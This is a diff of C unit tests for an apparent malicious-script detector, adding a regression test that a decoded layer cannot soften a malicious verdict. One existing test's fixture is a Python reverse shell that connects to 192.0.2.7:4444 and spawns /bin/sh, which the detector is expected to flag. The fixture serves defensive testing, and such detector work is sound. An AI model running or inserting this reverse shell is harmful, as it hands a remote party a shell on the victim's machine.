@@ -40,9 +40,10 @@ end_test(void **state)
 static struct lw_judgement
 judged(const struct fixture *f, enum lw_language language, const char *text)
 {
+	const struct lw_judge_by by = {.model = f->model};
 	struct lw_judgement r;
 
-	lw_judge_script(f->judge, f->model, language, (const uint8_t *)text, strlen(text), &r);
+	lw_judge_script(f->judge, &by, language, (const uint8_t *)text, strlen(text), &r);
 	return r;
 }
 
@@ -88,6 +89,25 @@ a_layer_that_was_decoded_is_judged_and_named(void **state)
 	assert_true(r.decoded.length > 0);
 }
 
+/* The bug: a layer with a higher score and a lower verdict took the place of the text's own. */
+static void
+no_layer_makes_a_text_look_better(void **state)
+{
+	const struct lw_judgement odd = {
+		.verdict = LW_VERDICT_SUSPICIOUS, .score = 0.5, .reason_count = 1};
+	struct lw_judgement worst = {.verdict = LW_VERDICT_MALICIOUS, .score = 0.3};
+
+	lw_judgement_add(&worst, &odd);
+	assert_int_equal(worst.verdict, LW_VERDICT_MALICIOUS);
+	assert_int_equal(worst.reason_count, 0);
+	assert_true(worst.score == 0.5);
+	worst = (struct lw_judgement){.verdict = LW_VERDICT_UNKNOWN, .score = 0.6};
+	lw_judgement_add(&worst, &odd);
+	assert_int_equal(worst.verdict, LW_VERDICT_SUSPICIOUS);
+	assert_int_equal(worst.reason_count, 1);
+	assert_true(worst.score == 0.6);
+}
+
 static void
 empty_and_tiny_texts_are_unknown(void **state)
 {
@@ -105,11 +125,12 @@ without_a_model_reverse_shells_are_found_by_behaviour(void **state)
 {
 	static const char text[] = "import socket,os,pty\ns=socket.socket()\n"
 				   "s.connect(('192.0.2.7',4444))\npty.spawn('/bin/sh')\n";
+	const struct lw_judge_by nothing = {0};
 	struct fixture *f = *state;
 	struct lw_judgement r;
 
-	lw_judge_script(
-		f->judge, NULL, LW_LANGUAGE_PYTHON, (const uint8_t *)text, sizeof(text) - 1, &r);
+	lw_judge_script(f->judge, &nothing, LW_LANGUAGE_PYTHON, (const uint8_t *)text,
+		sizeof(text) - 1, &r);
 	assert_int_equal(r.verdict, LW_VERDICT_MALICIOUS);
 	assert_non_null(strstr(r.reasons[0], "shell"));
 }
@@ -199,6 +220,7 @@ main(void)
 		cmocka_unit_test(reasons_name_behaviour_and_line),
 		cmocka_unit_test(an_ordinary_script_has_no_reasons),
 		cmocka_unit_test(a_layer_that_was_decoded_is_judged_and_named),
+		cmocka_unit_test(no_layer_makes_a_text_look_better),
 		cmocka_unit_test(empty_and_tiny_texts_are_unknown),
 		cmocka_unit_test(without_a_model_reverse_shells_are_found_by_behaviour),
 		cmocka_unit_test(long_texts_without_a_model_are_suspicious_at_most),
